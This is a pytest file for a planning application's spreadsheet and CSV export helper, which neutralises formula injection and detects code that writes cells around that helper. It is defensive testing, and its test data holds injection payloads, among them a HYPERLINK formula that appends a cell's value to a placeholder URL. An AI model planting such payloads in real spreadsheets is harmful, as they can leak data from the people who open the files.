"""Formula safety: the one rule for the cells Karsplan writes to .xlsx and CSV files."""

import csv
import datetime as dt
import io
import re
from decimal import Decimal
from pathlib import Path

import pytest
from openpyxl import Workbook, load_workbook

from karsplan.lib import cells, xlsx

ATTACKS = ["=1+1", "+1", "-2+3", "@SUM(1)", "\t=1", "\r=1", '=HYPERLINK("http://x"&A2,"Tıkla")']


@pytest.mark.parametrize("text", ATTACKS)
def test_text_that_starts_with_a_formula_character_is_prefixed(text):
    assert cells.safe_text(text) == "'" + text
    assert cells.safe_cell(text) == "'" + text
    assert cells.csv_field(text) == "'" + text


@pytest.mark.parametrize(
    "text", ["Hedefe yakın", "12,5", "%45", "'alıntı", " =1", "", "1-2", "e=mc2", "#YOK"]
)
def test_ordinary_text_is_left_as_typed(text):
    assert cells.safe_text(text) == text


def test_numbers_stay_numbers_also_negative_ones():
    for value in (0, 12, -5, 2.5, -0.5, Decimal("-12.35"), Decimal("1234.5")):
        assert cells.safe_cell(value) == value and type(cells.safe_cell(value)) is type(value)
    assert cells.csv_field(Decimal("-12.35"), number=lambda d: str(d).replace(".", ",")) == (
        "-12,35"
    )
    assert cells.csv_field(-5) == "-5"


def test_a_number_typed_as_text_is_text():
    """A user who types "-5" or "+90 474 212 00 00" in an explanation wrote text: it stays
    text, made safe; a Turkish number in text is text too."""
    assert cells.safe_cell("-5") == "'-5"
    assert cells.safe_cell("+90 474 212 00 00") == "'+90 474 212 00 00"
    assert cells.safe_cell("-1.234,5") == "'-1.234,5"
    assert cells.safe_cell("1.234,5") == "1.234,5"


def test_none_booleans_and_dates_are_written_as_they_are():
    day = dt.date(2025, 7, 1)
    for value in (None, True, False, day, dt.datetime(2025, 7, 1, 10, 30)):
        assert cells.safe_cell(value) == value
    assert cells.csv_field(None) == ""
    assert cells.csv_field(True) == "True"


@pytest.mark.parametrize("text", [*ATTACKS, "'=1", "''+1", "'abc", "abc", "'", ""])
def test_unquote_gives_back_what_was_typed(text):
    assert cells.unquote(cells.safe_text(text)) == text


def test_unquote_leaves_a_users_own_quote():
    assert cells.unquote("'abc") == "'abc"
    assert cells.unquote("'5") == "'5"


def test_xlsx_cells_are_strings_and_numbers_never_formulas():
    wb = Workbook()
    ws = wb.active
    xlsx.append(ws, [*ATTACKS, -5, Decimal("2.5")])
    xlsx.put(ws, 2, 1, "=SUM(A1:A2)")
    xlsx.write_table(wb.create_sheet("T"), ["=Başlık", "Değer"], [["@x", -3]])
    wb = load_workbook(io.BytesIO(xlsx.workbook_bytes(wb)))
    ws = wb.active
    row = list(ws[1])
    # A carriage return reads back as it is (lxml) or as a line feed (the stdlib parser).
    values = [c.value.replace("\r", "\n") if isinstance(c.value, str) else c.value for c in row]
    assert values == ["'" + t.replace("\r", "\n") for t in ATTACKS] + [-5, 2.5]
    assert [c.data_type for c in row] == ["s"] * len(ATTACKS) + ["n", "n"]
    assert ws["A2"].value == "'=SUM(A1:A2)" and ws["A2"].data_type == "s"
    table = wb["T"]
    assert [c.value for c in table[1]] == ["'=Başlık", "Değer"]
    assert [c.value for c in table[2]] == ["'@x", -3]


def test_csv_bytes_is_excel_csv_with_safe_fields():
    data = cells.csv_bytes(["Ad", "Değer"], [["=1+1", Decimal("-2.5")], ["-2+3", None]])
    assert data.startswith("\ufeff".encode())
    text = data.decode("utf-8-sig")
    assert "\r\n" in text
    rows = list(csv.reader(io.StringIO(text), delimiter=";"))
    assert rows == [["Ad", "Değer"], ["'=1+1", "-2.5"], ["'-2+3", ""]]


# --- Every writer goes through the helper ----------------------------------------------------

APPS = ("goals", "indicators", "budget", "reports", "plans", "karsplan", "transparency")
WRITERS = ("karsplan/lib/cells.py", "karsplan/lib/xlsx.py")
BYPASS = re.compile(
    r"csv\.(writer|DictWriter)\(|\.cell\([^)]*value=|\.value\s*=[^=]|\b(ws|sheet|info)\.append\("
)


def test_no_module_writes_a_cell_or_a_csv_row_around_the_helper():
    """Cells are written by `karsplan.lib.xlsx.put`/`append`/`write_table` and CSV files by
    `karsplan.lib.cells.csv_bytes`, so that the rule of formula safety applies to all."""
    root = Path(__file__).resolve().parents[3]
    offenders = []
    for app in APPS:
        for path in sorted((root / app).rglob("*.py")):
            relative = path.relative_to(root).as_posix()
            if "/migrations/" in relative or relative in WRITERS:
                continue
            for number, line in enumerate(path.read_text().splitlines(), start=1):
                if BYPASS.search(line):
                    offenders.append(f"{relative}:{number}: {line.strip()}")
    assert offenders == []
